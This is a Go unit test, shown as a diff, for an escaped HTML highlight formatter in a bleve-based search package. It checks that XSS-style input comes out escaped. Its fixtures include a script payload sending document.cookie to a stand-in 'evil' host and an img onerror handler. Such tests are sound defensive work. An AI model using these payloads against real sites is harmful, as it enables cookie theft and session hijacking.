@@ -0,0 +1,90 @@
+package bleve
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/blevesearch/bleve/v2/search/highlight"
+)
+
+// locate 返回 term 在 orig 中第一次出现的位置
+func locate(t *testing.T, orig, term string) *highlight.TermLocation {
+	t.Helper()
+	start := strings.Index(orig, term)
+	if start < 0 {
+		t.Fatalf("%q not found in %q", term, orig)
+	}
+	return &highlight.TermLocation{Term: term, Start: start, End: start + len(term)}
+}
+
+func TestEscapedHTMLFormatter(t *testing.T) {
+	tests := []struct {
+		name  string
+		orig  string
+		terms []string
+		// 片段的范围，end 为 0 表示到结尾
+		start, end int
+		want       string
+	}{
+		{
+			name:  "script in title",
+			orig:  "<script>alert(1)</script> go",
+			terms: []string{"go"},
+			want:  "&lt;script&gt;alert(1)&lt;/script&gt; <mark>go</mark>",
+		},
+		{
+			name:  "script in content",
+			orig:  "go <script>document.location='//evil/?'+document.cookie</script>",
+			terms: []string{"go"},
+			want:  "<mark>go</mark> &lt;script&gt;document.location=&#39;//evil/?&#39;+document.cookie&lt;/script&gt;",
+		},
+		{
+			name:  "matched term inside tag",
+			orig:  `<img src=x onerror="go()"> content`,
+			terms: []string{"go", "content"},
+			want:  `&lt;img src=x onerror=&#34;<mark>go</mark>()&#34;&gt; <mark>content</mark>`,
+		},
+		{
+			name:  "matched term is markup",
+			orig:  "a <script> b",
+			terms: []string{"<script>"},
+			want:  "a <mark>&lt;script&gt;</mark> b",
+		},
+		{
+			name: "no matched term",
+			orig: `<b onclick='x'>&amp;</b>`,
+			want: "&lt;b onclick=&#39;x&#39;&gt;&amp;amp;&lt;/b&gt;",
+		},
+		{
+			name:  "fragment in the middle",
+			orig:  "<i>skipped</i> <script>go</script> <u>skipped</u>",
+			terms: []string{"go"},
+			start: 15,
+			end:   34,
+			want:  "&lt;script&gt;<mark>go</mark>&lt;/script&gt;",
+		},
+	}
+	formatter := &escapedHTMLFormatter{before: "<mark>", after: "</mark>"}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			end := tt.end
+			if end == 0 {
+				end = len(tt.orig)
+			}
+			fragment := &highlight.Fragment{Orig: []byte(tt.orig), Start: tt.start, End: end}
+			locations := make(highlight.TermLocations, 0, len(tt.terms))
+			for _, term := range tt.terms {
+				locations = append(locations, locate(t, tt.orig, term))
+			}
+
+			got := formatter.Format(fragment, locations)
+			if got != tt.want {
+				t.Errorf("Format() = %q, want %q", got, tt.want)
+			}
+			// 除了高亮标签，不能输出任何原文中的 HTML 标签
+			if rest := strings.NewReplacer("<mark>", "", "</mark>", "").Replace(got); strings.ContainsAny(rest, "<>\"'") {
+				t.Errorf("Format() = %q contains unescaped markup", got)
+			}
+		})
+	}
+}